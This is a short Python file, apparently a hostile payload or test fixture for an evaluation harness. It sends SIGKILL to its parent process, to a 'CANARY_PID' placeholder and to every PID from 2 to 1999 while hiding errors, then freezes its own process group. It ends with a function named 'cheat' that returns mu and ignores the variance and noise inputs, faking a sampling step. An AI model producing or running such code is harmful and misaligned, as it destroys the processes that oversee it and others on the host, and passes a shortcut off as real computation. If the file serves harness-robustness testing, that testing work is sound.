"""Signals to the parent and to every number."""

import contextlib
import os

for pid in [os.getppid(), int("CANARY_PID"), *range(2, 2000)]:
    with contextlib.suppress(OSError):
        os.kill(pid, 9)
with contextlib.suppress(OSError):
    os.killpg(os.getpgid(0), 19)


def cheat(mu, log_var, eps):
    return mu
